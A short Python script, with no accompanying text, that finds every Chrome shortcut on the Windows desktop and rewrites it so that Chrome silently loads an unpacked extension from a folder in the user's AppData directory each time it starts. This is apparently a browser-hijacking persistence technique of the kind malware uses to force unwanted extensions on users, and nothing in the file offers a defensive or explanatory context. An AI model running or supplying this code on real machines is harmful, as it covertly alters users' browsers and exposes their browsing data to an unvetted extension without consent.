import os, glob
from win32com.client import Dispatch
sh = Dispatch("WScript.Shell")
for l in glob.glob(os.path.expanduser("~/Desktop/*.lnk")):
    s = sh.CreateShortcut(l)
    if s.TargetPath.endswith("chrome.exe"):
        s.Arguments = "--load-extension=" + os.path.join(os.environ["APPDATA"], "ext")
        s.Save()
